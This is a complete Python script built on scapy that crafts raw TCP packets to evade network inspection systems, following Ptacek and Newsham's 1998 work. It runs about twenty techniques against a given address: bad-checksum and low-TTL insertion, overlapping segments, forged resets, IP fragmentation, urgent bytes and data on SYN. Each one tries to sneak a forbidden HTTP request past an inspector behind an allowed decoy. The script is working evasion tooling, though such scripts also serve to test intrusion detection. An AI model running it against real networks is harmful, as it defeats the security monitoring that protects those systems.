"""
Ways to make an inspector read other bytes than the server does (Ptacek and Newsham 1998, and what followed).
Each is a connection of its own, made by hand: what is sent is what is written here, several times, as a sender would.
Usage: evasion.py ADDRESS FIRST_PORT. Prints one line for each way: its name and the port it came from.
"""

import random
import sys

from scapy.all import IP, TCP, conf, fragment, sniff, sr1

# One is allowed and the other is not, and they are equally long.
DECOY = b"GET /public/0 HTTP/1.1\r\nHost: api\r\n\r\n"
EVIL = b"GET /private0 HTTP/1.1\r\nHost: api\r\n\r\n"
# As often as it takes to get the pieces through one by one.
ROUNDS = 9
conf.verb = 0
wire = conf.L3socket()


class Connection:
    def __init__(self, address, port, asks_first):
        self.address, self.port, self.asks_first = address, port, asks_first
        self.initial = random.randrange(1 << 32)
        self.clock = 100_000
        self.acknowledged = 0

    def packet(self, offset, payload=b"", flags="A", options=(), ip=None, **fields):
        """A segment whose first byte is the stream's byte `offset`."""
        stamped = [("NOP", None), ("NOP", None), ("Timestamp", (self.clock, 0)), *options]
        values = {
            "sport": self.port,
            "dport": 80,
            "seq": (self.initial + 1 + offset) % (1 << 32),
            "ack": self.acknowledged,
            "flags": flags,
            "options": stamped,
            **fields,
        }
        return IP(dst=self.address, **(ip or {})) / TCP(**values) / payload

    def syn(self, data=b""):
        return self.packet(-1, data, "S", ack=0, options=[("MSS", 1400), ("Timestamp", (self.clock, 0))])

    def open(self):
        answer = sr1(self.syn(), timeout=30)
        if answer is None or not answer.haslayer(TCP) or answer[TCP].flags != "SA":
            raise SystemExit(f"no SYN-ACK from {self.address}")
        self.acknowledged = (answer[TCP].seq + 1) % (1 << 32)
        wire.send(self.packet(0))
        if self.asks_first:
            self.ask()

    def ask(self):
        """An allowed request and its answer: from there on only what the client says is read."""
        is_answer = lambda p: TCP in p and p[TCP].sport == 80 and p[TCP].dport == self.port and p[TCP].payload
        send = lambda: wire.send(self.packet(0, DECOY))
        answers = sniff(lfilter=is_answer, count=1, timeout=30, started_callback=send)
        if not answers:
            raise SystemExit(f"no answer from {self.address}")
        self.initial = (self.initial + len(DECOY)) % (1 << 32)
        self.acknowledged = (answers[0][TCP].seq + len(answers[0][TCP].payload)) % (1 << 32)

    def play(self, *packets):
        for _ in range(ROUNDS):
            for packet in packets:
                wire.send(packet)
        wire.send(self.packet(len(EVIL), flags="R"))


def insert(**decoy):
    """A segment with other bytes that the server refuses; then the true one."""

    def way(connection):
        connection.open()
        connection.play(connection.packet(0, DECOY, **decoy), connection.packet(0, EVIL))

    return way


def acknowledges_too_much(connection):
    """More than the server ever said, wherever its numbers began."""
    connection.open()
    beyond = (connection.acknowledged + 1_000_000) % (1 << 32)
    connection.play(connection.packet(0, DECOY, ack=beyond), connection.packet(0, EVIL))


def plain(connection):
    connection.open()
    connection.play(connection.packet(0, EVIL))


def tiny(connection):
    connection.open()
    connection.play(*(connection.packet(i, EVIL[i : i + 1]) for i in range(len(EVIL))))


def backwards(connection):
    connection.open()
    pieces = [connection.packet(i, EVIL[i : i + 5]) for i in range(0, len(EVIL), 5)]
    connection.play(*reversed(pieces))


def overlap(first, second):
    """Two copies of what is ahead, then the beginning that makes the server read one of them."""

    def way(connection):
        connection.open()
        connection.play(
            connection.packet(4, first[4:]), connection.packet(4, second[4:]), connection.packet(0, EVIL[:4])
        )

    return way


def old_timestamp(connection):
    connection.open()
    decoy = connection.packet(0, DECOY, options=[])
    decoy[TCP].options = [("NOP", None), ("NOP", None), ("Timestamp", (connection.clock - 50_000, 0))]
    connection.play(decoy, connection.packet(0, EVIL))


def false_reset(**fields):
    def way(connection):
        connection.open()
        connection.play(connection.packet(0, flags="R", **fields), connection.packet(0, EVIL))

    return way


def false_end(connection):
    connection.open()
    connection.play(connection.packet(0, flags="FA", chksum=0x1234), connection.packet(0, EVIL))


def data_on_syn(connection):
    wire.send(connection.syn(DECOY))
    connection.open()
    connection.play(connection.packet(0, EVIL))


def urgent_byte(connection):
    connection.open()
    connection.play(connection.packet(0, EVIL[:9] + b"x" + EVIL[9:], flags="AU", urgptr=10))


def second_syn(connection):
    true = connection.initial
    connection.initial = (true + 1000) % (1 << 32)
    wire.send(connection.packet(-1, flags="S", ack=0, ip={"ttl": 2}))
    connection.initial = true
    connection.open()
    connection.play(connection.packet(0, EVIL))


def split_request(connection):
    connection.open()
    wire.send(connection.packet(0, DECOY))
    connection.play(connection.packet(len(DECOY), EVIL[:8]), connection.packet(len(DECOY) + 8, EVIL[8:]))


def fragments(connection):
    connection.open()
    connection.play(*fragment(connection.packet(0, EVIL), fragsize=48))


def decoy_first(connection):
    connection.open()
    connection.play(connection.packet(0, DECOY), connection.packet(0, EVIL))


def allowed(connection):
    connection.open()
    connection.play(connection.packet(0, DECOY))


WAYS = {
    "plain": plain,
    "tiny segments": tiny,
    "segments backwards": backwards,
    "bad checksum": insert(chksum=0x1234),
    "low time to live": insert(ip={"ttl": 2}),
    "signature option": insert(options=[(19, b"\x00" * 16)]),
    "acknowledges too much": acknowledges_too_much,
    "no acknowledgement": insert(flags=""),
    "old timestamp": old_timestamp,
    "overlap, the first is true": overlap(EVIL, DECOY),
    "overlap, the second is true": overlap(DECOY, EVIL),
    "reset with a wrong number": false_reset(seq=12345),
    "reset with a bad checksum": false_reset(chksum=0x1234),
    "reset with a low time to live": false_reset(ip={"ttl": 2}),
    "end with a bad checksum": false_end,
    "data on SYN": data_on_syn,
    "urgent byte": urgent_byte,
    "SYN that does not arrive": second_syn,
    "second request in pieces": split_request,
    "fragments": fragments,
    "other bytes after they passed": decoy_first,
    "allowed": allowed,
}

address, first_port = sys.argv[1], int(sys.argv[2])
TRIED = [(name, way, False) for name, way in WAYS.items()]
TRIED += [(f"{name}, after a request", way, True) for name, way in WAYS.items()]
for port, (name, way, asks_first) in enumerate(TRIED, first_port):
    way(Connection(address, port, asks_first))
    print(f"{port} {name}", flush=True)
